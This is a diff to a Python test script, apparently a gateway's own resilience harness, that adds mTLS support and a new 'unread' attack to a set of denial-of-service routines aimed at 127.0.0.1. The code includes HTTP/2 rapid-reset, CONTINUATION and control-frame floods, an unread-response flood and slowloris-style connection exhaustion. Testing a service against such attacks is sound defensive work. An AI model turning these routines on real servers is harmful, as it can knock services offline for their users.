@@ -1,8 +1,10 @@
 """Attacks on a gateway at 127.0.0.1:PORT, from raw sockets (Python standard library only).
 
-Usage: gateway_attacks.py PORT KIND [SECONDS] [CONNECTIONS]
+Usage: gateway_attacks.py [--tls DIR] PORT KIND [SECONDS] [CONNECTIONS]
 
-Every kind runs for SECONDS (default 3) and prints one JSON line with what it saw:
+With --tls, every connection is an mTLS session (ALPN h2, then http/1.1) with the client's files
+in DIR as a registration keeps them: tls.crt and tls.key presented, ca.crt trusted. Every kind runs for SECONDS (default 3) and
+prints one JSON line with what it saw:
 
   busy-http1   CONNECTIONS connections each send a POST head declaring a body that never comes
                (half of them with `Expect: 100-continue`); each closed one is opened again.
@@ -19,10 +21,17 @@ Every kind runs for SECONDS (default 3) and prints one JSON line with what it sa
                what the gateway answers; each closed one is opened again. The first connection of
                each kind sends one burst, then reads until the gateway closes: `goaway` is the
                error code of the GOAWAY frame it got (11 is ENHANCE_YOUR_CALM), or null.
+  unread       CONNECTIONS HTTP/2 connections (default 1) that never read what the gateway answers,
+               with a small receive buffer and their receive windows opened wide, send requests
+               as fast as they can: GETs, a POST with a body, and one of each control frame of the
+               floods above in each batch (fewer than the flood bounds let through). `bytes` is
+               how much they sent, `closed` how many the gateway closed.
 """
 import json
+import os
 import select
 import socket
+import ssl
 import struct
 import sys
 import time
@@ -34,6 +43,10 @@ AUTHORITY = b"\x01\x01x"
 GET_ROOT = b"\x82\x86\x84" + AUTHORITY
 POST_ROOT = b"\x83\x86\x84" + AUTHORITY
 GET_HEALTHZ = b"\x82\x86\x04\x08/healthz" + AUTHORITY
+# :path /aaa... (4,000 bytes), added to the HPACK dynamic table; afterwards its index (62) alone.
+LONG_PATH = b"\x44\x7f\xa1\x1e/" + b"a" * 3999
+GET_LONG_PATH = b"\x82\x86" + LONG_PATH + AUTHORITY
+GET_INDEXED_PATH = b"\x82\x86\xbe" + AUTHORITY
 # A literal header field, new name, never indexed: x-a: 32 bytes.
 JUNK_HEADER = b"\x10\x03x-a\x20" + b"a" * 32
 
@@ -45,10 +58,34 @@ def frame(kind, flags, stream, payload=b""):
     return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
 
 
-def connect(port, timeout=2.0):
-    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
+# The mTLS client context with --tls, else None (plaintext).
+TLS = None
+
+
+def tls_context(folder):
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.load_verify_locations(os.path.join(folder, "ca.crt"))
+    context.load_cert_chain(os.path.join(folder, "tls.crt"), os.path.join(folder, "tls.key"))
+    context.set_alpn_protocols(["h2", "http/1.1"])
+    return context
+
+
+def connect(port, timeout=2.0, receive_buffer=None):
+    s = socket.socket()
+    if receive_buffer is not None:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
+    s.settimeout(timeout)
+    s.connect(("127.0.0.1", port))
     s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-    return s
+    return TLS.wrap_socket(s, server_hostname="127.0.0.1") if TLS else s
+
+
+def send_some(s, pending):
+    """Sends what it can of `pending` on a non-blocking socket; what is left to send."""
+    try:
+        return pending[s.send(pending):]
+    except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
+        return pending
 
 
 def h2_connect(port):
@@ -151,20 +188,102 @@ def flood(port, kind, seconds, connections):
         s.setblocking(False)
         return s
 
+    # What each connection has still to send of its last batch (a TLS write must be retried whole).
+    pending = {}
     while time.monotonic() < end:
         opened += refill(socks, connections, open_one)
         _, writable, _ = select.select([], socks, [], 0.05)
         for s in writable:
+            batch = pending.pop(s, None) or source.batch()
             try:
-                sent += s.send(source.batch())
-            except BlockingIOError:
-                pass
+                left = send_some(s, batch)
             except OSError:
                 s.close()
                 socks.remove(s)
+                continue
+            sent += len(batch) - len(left)
+            if left:
+                pending[s] = left
     for s in socks:
         s.close()
     return {"kind": kind, "goaway": goaway, "connections": opened, "bytes": sent}
+
+
+def unread_batch(stream, controls, requests):
+    """`requests` requests from stream `stream` on; with `controls`, a control frame of each kind."""
+    out = []
+    if controls:
+        out += [
+            frame(PING, 0, 0, b"\x00" * 8),
+            frame(SETTINGS, 0, 0),
+            frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
+            # The rapid-reset shape: a request, cancelled at once.
+            frame(HEADERS, END_HEADERS, stream, GET_HEALTHZ),
+            frame(RST_STREAM, 0, stream, struct.pack(">I", 8)),
+            # A header block in two pieces.
+            frame(HEADERS, END_STREAM, stream + 2, GET_HEALTHZ[:3]),
+            frame(CONTINUATION, END_HEADERS, stream + 2, GET_HEALTHZ[3:]),
+            # A POST with an empty DATA frame, then its body.
+            frame(HEADERS, END_HEADERS, stream + 4, POST_ROOT),
+            frame(DATA, 0, stream + 4),
+            frame(DATA, END_STREAM, stream + 4, b"b" * 1024),
+        ]
+        stream += 6
+    # GETs of a path not found, which the answer repeats (4 KiB each).
+    for _ in range(requests):
+        out.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_INDEXED_PATH))
+        stream += 2
+    return b"".join(out), stream
+
+
+def unread(port, seconds, connections):
+    socks = []
+    for _ in range(connections):
+        s = connect(port, receive_buffer=4096)
+        # Windows opened as far as they go: flow control holds back none of the answers.
+        s.sendall(
+            PREFACE
+            + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1))
+            + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30))
+            + frame(HEADERS, END_HEADERS | END_STREAM, 1, GET_LONG_PATH)
+        )
+        s.setblocking(False)
+        socks.append(s)
+    streams = {s: 3 for s in socks}
+    # When each connection last sent control frames: 6 every 0.1 s, within the flood bounds.
+    controlled = {s: 0.0 for s in socks}
+    pending = {}
+    sent = 0
+    closed = 0
+    start = time.monotonic()
+    end = start + seconds
+    while socks and time.monotonic() < end:
+        # A third of the time paced, as a client the gateway keeps up with (a batch every 2 ms),
+        # so that its answers pile up; then as fast as it can.
+        paced = time.monotonic() - start < seconds / 3
+        if paced:
+            time.sleep(0.002)
+        _, writable, _ = select.select([], socks, [], 0.05)
+        for s in writable:
+            batch = pending.pop(s, None)
+            if batch is None:
+                controls = time.monotonic() - controlled[s] >= 0.1
+                if controls:
+                    controlled[s] = time.monotonic()
+                batch, streams[s] = unread_batch(streams[s], controls, 8 if paced else 4096)
+            try:
+                left = send_some(s, batch)
+            except OSError:
+                closed += 1
+                s.close()
+                socks.remove(s)
+                continue
+            sent += len(batch) - len(left)
+            if left:
+                pending[s] = left
+    for s in socks:
+        s.close()
+    return {"kind": "unread", "connections": connections, "bytes": sent, "closed": closed}
 
 
 def busy_http1(port, seconds, connections):
@@ -314,10 +433,15 @@ def slowloris(port, seconds, connections):
 
 
 def main():
-    port = int(sys.argv[1])
-    kind = sys.argv[2]
-    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 3.0
-    connections = int(sys.argv[4]) if len(sys.argv) > 4 else None
+    global TLS
+    args = sys.argv[1:]
+    if args[0] == "--tls":
+        TLS = tls_context(args[1])
+        args = args[2:]
+    port = int(args[0])
+    kind = args[1]
+    seconds = float(args[2]) if len(args) > 2 else 3.0
+    connections = int(args[3]) if len(args) > 3 else None
     if kind == "busy-http1":
         result = busy_http1(port, seconds, connections or 128)
     elif kind == "busy-http2":
@@ -330,6 +454,8 @@ def main():
         result = reset_burst(port, connections)
     elif kind == "slowloris":
         result = slowloris(port, seconds, connections or 500)
+    elif kind == "unread":
+        result = unread(port, seconds, connections or 1)
     else:
         result = flood(port, kind, seconds, connections or 4)
     print(json.dumps(result), flush=True)
